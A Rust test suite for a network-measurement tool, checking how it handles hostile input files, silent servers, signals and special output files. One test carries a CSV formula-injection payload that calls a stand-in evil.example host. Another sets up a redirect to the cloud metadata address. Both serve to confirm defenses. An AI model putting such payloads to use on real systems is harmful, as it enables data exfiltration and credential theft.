//! Issue 11: hostile input, hostile servers and special output files. Each test here failed
//! before its fix.

use std::process::Stdio;

use blockprobe::mocknet::dns::{Behaviour, Zone};
use blockprobe::store::{Store, Value};
use tokio::io::{AsyncBufReadExt as _, BufReader};

use crate::support::{Net, bin, jsonl, run, stderr, write};

fn kill(sig: &str, child: &tokio::process::Child) {
    let pid = child.id().unwrap().to_string();
    let ok = std::process::Command::new("kill")
        .args([sig, &pid])
        .status()
        .unwrap();
    assert!(ok.success());
}

fn mkfifo(path: &std::path::Path) {
    let ok = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(ok.success(), "mkfifo {}", path.display());
}

fn status_of(url: &str, run_id: &str) -> Value {
    let mut st = Store::open(&url.parse().unwrap()).unwrap();
    let rows = st
        .query("SELECT status FROM runs WHERE run_id = ?", &[run_id.into()])
        .unwrap();
    rows[0][0].clone()
}

/// Item 1: `-o /dev/null` needs no `--format` and leaves the device a device.
#[cfg(unix)]
#[tokio::test]
async fn issue_11_output_to_dev_null_and_a_fifo_is_written_in_place() {
    use std::os::unix::fs::FileTypeExt as _;
    let net = Net::start().await;
    let mut args = net.args();
    args.extend(["ok.test", "-o", "/dev/null"].map(String::from));
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let m = std::fs::metadata("/dev/null").unwrap();
    assert!(m.file_type().is_char_device(), "/dev/null was replaced");

    // A FIFO gets the CSV through it and stays a FIFO.
    let fifo = net.path("report.pipe");
    mkfifo(&fifo);
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read_to_string(fifo).unwrap())
    };
    let mut args = net.args();
    args.extend(["ok.test", "--format", "csv", "-o"].map(String::from));
    args.push(fifo.display().to_string());
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let csv = reader.join().unwrap();
    assert!(csv.starts_with("run_id,"), "{csv}");
    assert_eq!(csv.lines().count(), 2, "{csv}");
    let ft = std::fs::symlink_metadata(&fifo).unwrap().file_type();
    assert!(ft.is_fifo(), "the FIFO was replaced");
}

/// Item 1: replacing a report keeps its mode.
#[cfg(unix)]
#[tokio::test]
async fn issue_11_a_replaced_report_keeps_its_mode() {
    use std::os::unix::fs::PermissionsExt as _;
    let net = Net::start().await;
    let report = net.path("private.csv");
    write(&report, "old\n");
    std::fs::set_permissions(&report, std::fs::Permissions::from_mode(0o600)).unwrap();
    let mut args = net.args();
    args.extend(["ok.test", "-o"].map(String::from));
    args.push(report.display().to_string());
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let m = std::fs::metadata(&report).unwrap();
    assert_eq!(m.permissions().mode() & 0o777, 0o600);
    assert!(
        std::fs::read_to_string(&report)
            .unwrap()
            .contains("ok.test")
    );
}

/// Item 2: `-o` naming an input is refused before anything is opened for writing.
#[tokio::test]
async fn issue_11_output_naming_an_input_file_is_refused() {
    let net = Net::start().await;
    let list = net.path("list.jsonl");
    write(&list, "ok.test\nnx.test\n");
    let link = net.path("alias.jsonl");
    #[cfg(unix)]
    std::os::unix::fs::symlink(&list, &link).unwrap();
    for output in [&list, &link] {
        let mut args = net.args();
        args.extend(["-i".into(), list.display().to_string()]);
        args.extend(["-o".into(), output.display().to_string()]);
        let out = run(&args).await;
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(stderr(&out).contains("input file"), "{}", stderr(&out));
        assert_eq!(
            std::fs::read_to_string(&list).unwrap(),
            "ok.test\nnx.test\n"
        );
    }
}

/// Item 3: a line that is not UTF-8 is skipped with a warning; binary input is a clear error
/// that keeps the report of what was measured.
#[tokio::test]
async fn issue_11_bad_bytes_skip_a_line_and_binary_input_keeps_the_report() {
    let net = Net::start().await;
    let list = net.path("list.txt");
    std::fs::write(&list, b"ok.test\n\xff\xfebad\nnx.test\n").unwrap();
    let mut args = net.args();
    args.extend(["-i".into(), list.display().to_string()]);
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(jsonl(&out.stdout).len(), 2);
    assert!(
        stderr(&out).contains("list.txt:2: not UTF-8 text (skipped)"),
        "{}",
        stderr(&out)
    );

    let binary = net.path("image.bin");
    std::fs::write(&binary, [0u8, 1, 2, 0, 255, 10, 0]).unwrap();
    let report = net.path("report.csv");
    let mut args = net.args();
    for f in [&list, &binary] {
        args.extend(["-i".into(), f.display().to_string()]);
    }
    args.extend(["-o".into(), report.display().to_string()]);
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("image.bin:1: binary data"),
        "{}",
        stderr(&out)
    );
    let csv = std::fs::read_to_string(&report).expect("the report is kept");
    assert_eq!(csv.lines().count(), 3, "{csv}");
}

/// Item 4: a closed pipe stops the run as `interrupted`, and `--resume` finishes it.
#[tokio::test]
async fn issue_11_a_closed_pipe_leaves_a_resumable_run() {
    let net = Net::start().await;
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite:{}", dir.path().join("p.db").display());
    let list = net.path("many.txt");
    let names: String = (0..300).map(|i| format!("n{i}.ok.test\n")).collect();
    write(&list, &names);
    let mut args = net.args();
    args.extend(["-i".into(), list.display().to_string()]);
    args.extend(["--concurrency", "2", "--store", &url, "--run-id", "p1"].map(String::from));
    let mut child = crate::support::spawn_piped(&args);
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    stdout.read_line(&mut line).await.unwrap();
    drop(stdout);
    let out = child.wait_with_output().await.unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(status_of(&url, "p1"), Value::from("interrupted"));

    let mut args = net.args();
    args.extend(["-i".into(), list.display().to_string()]);
    args.extend(["--store", &url, "--resume", "p1", "-o", "/dev/null"].map(String::from));
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(status_of(&url, "p1"), Value::from("complete"));
}

/// Item 5: SIGINT while the resolver health check waits on a silent resolver: the run ends as
/// interrupted (exit 130), with its report complete and no temporary file left behind.
#[tokio::test]
async fn issue_11_an_interrupt_during_start_up_is_handled() {
    let net = Net::start_with(Zone::new(Behaviour::Silent)).await;
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite:{}", dir.path().join("s.db").display());
    let report = dir.path().join("out.csv");
    let mut args = crate::support::args_without(&net.args(), &["--timeout"]);
    args.extend(["--timeout", "60s", "--store", &url, "--run-id", "s1"].map(String::from));
    args.extend(["ok.test".into(), "-o".into(), report.display().to_string()]);
    let child = tokio::process::Command::new(bin())
        .args(&args)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    // Readiness: the canary query reached the (silent) vantage resolver.
    for _ in 0..2000 {
        if net.vantage.hits() > 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    assert!(net.vantage.hits() > 0, "the health check never started");
    kill("-INT", &child);
    let out = child.wait_with_output().await.unwrap();
    assert_eq!(out.status.code(), Some(130), "{}", stderr(&out));
    let csv = std::fs::read_to_string(&report).unwrap();
    assert_eq!(csv.lines().count(), 1, "header only: {csv}");
    let leftovers: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().ends_with(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
    assert_eq!(status_of(&url, "s1"), Value::from("interrupted"));
}

/// Item 5: `--lock-wait` gives way to an interrupt.
#[tokio::test]
async fn issue_11_an_interrupt_ends_a_lock_wait() {
    let net = Net::start().await;
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite:{}", dir.path().join("l.db").display());
    let mut held = Store::open(&url.parse().unwrap()).unwrap();
    held.lock("the test", false, || false).unwrap();
    let mut args = net.args();
    args.extend(["ok.test", "--store", &url, "--lock-wait"].map(String::from));
    let mut child = crate::support::spawn_piped(&args);
    // Readiness: it says it is waiting.
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    err.read_line(&mut line).await.unwrap();
    assert!(line.contains("waiting for it (--lock-wait)"), "{line}");
    kill("-INT", &child);
    let out = child.wait_with_output().await.unwrap();
    assert_eq!(out.status.code(), Some(130));
    assert!(out.stdout.is_empty(), "nothing measured");
    drop(held);
}

/// Item 10: a PostgreSQL "server" that accepts and never speaks: the scan gives up after
/// `connect_timeout` with a clear error instead of hanging.
#[tokio::test]
async fn issue_11_a_silent_postgres_server_is_a_bounded_error() {
    let net = Net::start().await;
    let silent = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = silent.local_addr().unwrap().port();
    let held = tokio::spawn(async move {
        let mut conns = Vec::new();
        loop {
            let (c, _) = silent.accept().await.unwrap();
            conns.push(c);
        }
    });
    let mut args = net.args();
    let url = format!("postgres://u@127.0.0.1:{port}/db?connect_timeout=1&sslmode=disable");
    args.extend(["ok.test", "--store", &url].map(String::from));
    let out = tokio::time::timeout(std::time::Duration::from_secs(30), run(&args))
        .await
        .expect("the scan hung on a silent PostgreSQL server");
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("no answer within 1s"),
        "{}",
        stderr(&out)
    );
    assert!(out.stdout.is_empty());
    held.abort();
}

/// Item 13: a cell that would start a formula is neutralised in CSV, verbatim in JSON.
#[tokio::test]
async fn issue_11_csv_cells_cannot_inject_formulas() {
    let net = Net::start().await;
    let list = net.path("list.csv");
    write(
        &list,
        "url,category_code\nok.test,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\"\n",
    );
    let report = net.path("out.csv");
    let mut args = net.args();
    args.extend(["-i".into(), list.display().to_string()]);
    args.extend(["-o".into(), report.display().to_string()]);
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let mut rdr = csv::Reader::from_path(&report).unwrap();
    let headers = rdr.headers().unwrap().clone();
    let col = headers.iter().position(|h| h == "category").unwrap();
    let row = rdr.records().next().unwrap().unwrap();
    assert_eq!(&row[col], "'=HYPERLINK(\"http://evil.example/\"&A1,\"x\")");

    let mut args = net.args();
    args.extend(["-i".into(), list.display().to_string()]);
    let out = run(&args).await;
    assert_eq!(
        jsonl(&out.stdout)[0]["category"],
        "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"
    );
}

/// Item 12: a redirect into a reserved range the target is not on (a cloud metadata address)
/// is not followed and is recorded; an https -> http redirect is recorded as a downgrade.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue_11_redirects_to_reserved_addresses_are_refused_and_downgrades_recorded() {
    use blockprobe::mocknet::origin::Origin;
    use blockprobe::mocknet::pki::Pki;
    let lo = crate::support::ip("127.0.0.1");
    let pki = Pki::generate("redirect test CA").unwrap();
    let tls = pki
        .server_config(&["ok.test", "169.254.169.254"], &[b"http/1.1"])
        .unwrap();
    let origin = Origin::start(lo, Some(tls.clone())).await.unwrap();
    // Stands in for 169.254.169.254 (through --connect-to): must never see a connection.
    let metadata = Origin::start(lo, Some(tls)).await.unwrap();
    let plain = Origin::start(lo, None).await.unwrap();
    let zone = || Zone::new(Behaviour::Answer(vec![lo]));
    let dns = crate::support::Resolvers::start(zone(), zone()).await;
    let dir = tempfile::tempdir().unwrap();
    let ca = dir.path().join("ca.pem");
    std::fs::write(&ca, pki.ca_pem()).unwrap();
    let o = origin.addr.port();
    let meta_port = 8169;
    let to_metadata =
        format!("https://ok.test:{o}/redirect/169.254.169.254:{meta_port}/latest/meta-data/");
    let downgrade = format!(
        "https://ok.test:{o}/redirect-http/ok.test:{}/",
        plain.addr.port()
    );
    let mut args = dns.args("ok.test");
    args.extend([
        "--ca-file".into(),
        ca.display().to_string(),
        "--timeout".into(),
        "2s".into(),
        "--connect-to".into(),
        format!("169.254.169.254:{meta_port}={}", metadata.addr),
        to_metadata.clone(),
        downgrade.clone(),
    ]);
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let recs = jsonl(&out.stdout);
    assert_eq!(
        metadata.connections(),
        0,
        "the metadata address was fetched"
    );
    let r = crate::support::find(&recs, &to_metadata);
    let hops = r["evidence"]["direct"]["hops"].as_array().unwrap();
    assert_eq!(hops.len(), 1, "{r:#}");
    let refused = hops[0]["refused_redirect"].as_str().unwrap_or_default();
    assert!(
        refused.contains("169.254.169.254 (link-local address) not followed"),
        "{r:#}"
    );
    let r = crate::support::find(&recs, &downgrade);
    let hops = r["evidence"]["direct"]["hops"].as_array().unwrap();
    assert_eq!(hops.len(), 2, "{r:#}");
    assert_eq!(hops[1]["downgrade"], true, "{r:#}");
    assert!(plain.connections() > 0);
}

/// Item 11: an answer with 200 addresses: at most `MAX_ADDRS` connections per job.
#[tokio::test]
async fn issue_11_a_huge_answer_is_capped() {
    let lo = crate::support::ip("127.0.0.1");
    let many: Vec<std::net::IpAddr> = (1..=200)
        .map(|i| std::net::IpAddr::from([127, 0, 1, i as u8]))
        .collect();
    let zone = || {
        Zone::new(Behaviour::Answer(vec![lo])).with("many.test", Behaviour::Answer(many.clone()))
    };
    let dns = crate::support::Resolvers::start(zone(), zone()).await;
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let mut args = dns.args("ok.test");
    args.extend([
        "--probes".into(),
        "tcp".into(),
        format!("tcp://many.test:{port}"),
    ]);
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let r = &jsonl(&out.stdout)[0];
    assert_eq!(r["dns_answers"].as_array().unwrap().len(), 200);
    let tcp = r["evidence"]["direct"]["hops"][0]["tcp"]
        .as_array()
        .unwrap();
    assert_eq!(tcp.len(), blockprobe::probe::tcp::MAX_ADDRS, "{r:#}");
}

/// Item 11: with few file descriptors (`ulimit -n 24`) and many jobs at once, the scan slows
/// down instead of turning records into local failures.
#[cfg(target_os = "linux")]
#[tokio::test]
async fn issue_11_few_file_descriptors_slow_the_scan_not_the_verdicts() {
    let mut targets = Vec::new();
    let mut accepts = Vec::new();
    for _ in 0..40 {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        targets.push(format!("tcp://{}", listener.local_addr().unwrap()));
        accepts.push(tokio::spawn(async move {
            loop {
                let (c, _) = listener.accept().await.unwrap();
                drop(c);
            }
        }));
    }
    let script = format!(
        "ulimit -n 24 && exec {} scan --probes tcp --canary '' --concurrency 100 --repeat 3 \
         --quiet {}",
        bin(),
        targets.join(" ")
    );
    let out = tokio::process::Command::new("sh")
        .args(["-c", &script])
        .output()
        .await
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let recs = jsonl(&out.stdout);
    assert_eq!(recs.len(), 40);
    for r in recs {
        assert_eq!(r["verdict"], "reachable", "{r:#}");
    }
    for a in accepts {
        a.abort();
    }
}

/// Item 5: a second SIGTERM (as `timeout` sends) stops a scan whose jobs would not finish for
/// a minute; the report is closed and says it was interrupted.
#[tokio::test]
async fn issue_11_a_second_sigterm_stops_hung_jobs() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (accepted_tx, mut accepted) = tokio::sync::mpsc::channel(1);
    let hold = tokio::spawn(async move {
        let mut conns = Vec::new();
        loop {
            let (c, _) = listener.accept().await.unwrap();
            conns.push(c);
            let _ = accepted_tx.try_send(());
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("r.json");
    let child = tokio::process::Command::new(bin())
        .args(["scan", "--canary", "", "--timeout", "60s", "--quiet", "-o"])
        .arg(&report)
        .arg(format!("https://{addr}/"))
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    // Readiness: the job's TLS handshake is hanging on our silent server.
    accepted.recv().await.unwrap();
    let mut child = child;
    kill("-TERM", &child);
    // The second signal only once the first was seen (two back to back can be delivered as
    // one): the scan says it is finishing the jobs in flight.
    {
        use tokio::io::AsyncBufReadExt as _;
        let mut lines = tokio::io::BufReader::new(child.stderr.as_mut().unwrap()).lines();
        while let Some(l) = lines.next_line().await.unwrap() {
            if l.contains("interrupted: finishing the jobs in flight") {
                break;
            }
        }
    }
    kill("-TERM", &child);
    let out = tokio::time::timeout(std::time::Duration::from_secs(30), child.wait_with_output())
        .await
        .expect("two SIGTERMs did not stop the scan")
        .unwrap();
    assert_eq!(out.status.code(), Some(130), "{}", stderr(&out));
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    assert_eq!(doc["end"]["interrupted"], true);
    hold.abort();
}

/// Found by a hostile-user pass: a FIFO nobody reads blocks the open; an interrupt still ends
/// the run (exit 130).
#[cfg(target_os = "linux")]
#[tokio::test]
async fn issue_11_an_interrupt_ends_a_wait_for_a_fifo_reader() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("out.jsonl");
    mkfifo(&fifo);
    let child = tokio::process::Command::new(bin())
        .args(["scan", "--canary", "", "--quiet", "x.example", "-o"])
        .arg(&fifo)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    // Readiness: the thread that opens the FIFO exists (signals are handled before it starts).
    let pid = child.id().unwrap();
    let waiting = || {
        std::fs::read_dir(format!("/proc/{pid}/task"))
            .into_iter()
            .flatten()
            .filter_map(Result::ok)
            .any(|t| {
                std::fs::read_to_string(t.path().join("comm"))
                    .is_ok_and(|c| c.trim() == "open-output")
            })
    };
    for _ in 0..2000 {
        if waiting() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    assert!(waiting(), "never reached the open");
    kill("-INT", &child);
    let out = tokio::time::timeout(std::time::Duration::from_secs(20), child.wait_with_output())
        .await
        .expect("SIGINT did not end the wait")
        .unwrap();
    assert_eq!(out.status.code(), Some(130), "{}", stderr(&out));
}

/// Found by a hostile-user pass: `-o` naming the store (before either exists) is refused; a
/// run that measured nothing and failed leaves an existing CSV alone; `blockpage /dev/zero`
/// reads a bounded prefix.
#[tokio::test]
async fn issue_11_store_as_output_empty_runs_and_endless_pages() {
    let net = Net::start().await;
    let db = net.path("s.db");
    let mut args = net.args();
    args.extend(["ok.test", "--store"].map(String::from));
    args.push(format!("sqlite:{}", db.display()));
    args.extend([
        "-o".into(),
        db.display().to_string(),
        "--format".into(),
        "jsonl".into(),
    ]);
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("is the store"), "{}", stderr(&out));

    let report = net.path("keep.csv");
    write(&report, "precious\n");
    let empty = net.path("empty.txt");
    write(&empty, "# nothing\n");
    let mut args = net.args();
    args.extend(["-i".into(), empty.display().to_string()]);
    args.extend(["-o".into(), report.display().to_string()]);
    let out = run(&args).await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("no targets"), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&report).unwrap(), "precious\n");

    let out = tokio::time::timeout(
        std::time::Duration::from_secs(30),
        run(["blockpage", "/dev/zero"]),
    )
    .await
    .expect("blockpage /dev/zero hung");
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
}
